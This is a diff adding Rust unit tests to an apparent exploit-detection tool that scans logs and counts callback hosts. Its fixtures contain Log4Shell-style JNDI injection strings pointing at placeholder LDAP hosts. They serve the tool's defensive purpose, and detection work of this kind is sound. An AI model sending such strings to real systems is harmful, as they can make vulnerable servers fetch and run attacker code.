@@ -108,6 +108,29 @@ fn a_segment_read_twice_counts_once() {
 }
 
 #[test]
+fn refused_lines_are_counted_and_scanned() {
+    let mut window = Window::new(3);
+    window.observe_refused(OrgId(1), "torn line");
+    window.observe_refused(OrgId(1), "torn ${jndi:ldap://x/a} line");
+    window.observe_refused(OrgId(1), "torn ${jndi:ldap://x/a");
+    let stats = window.stats();
+    assert_eq!((stats.refused, stats.unplaced_exploits, stats.events), (3, 1, 0));
+    assert_eq!((stats.first, stats.organisations.len()), (None, 0), "no time is known");
+    assert_eq!(Window::from_bytes(&window.to_bytes()).unwrap().stats(), stats);
+}
+
+#[test]
+fn callbacks_that_differ_in_a_number_are_two_contacts() {
+    let mut rng = Rng::new(4);
+    let base = event(&mut rng);
+    let mut window = Window::new(1);
+    for path in ["/${jndi:ldap://192.0.2.7/a}", "/${jndi:ldap://192.0.2.8/a}"] {
+        window.observe(&Event { path, ..base.clone() });
+    }
+    assert_eq!(crate::judge(&window)[0].callbacks, ["192.0.2.7", "192.0.2.8"]);
+}
+
+#[test]
 fn bytes_and_back() {
     let mut rng = Rng::new(6);
     let window = window(8, 300, &mut rng);
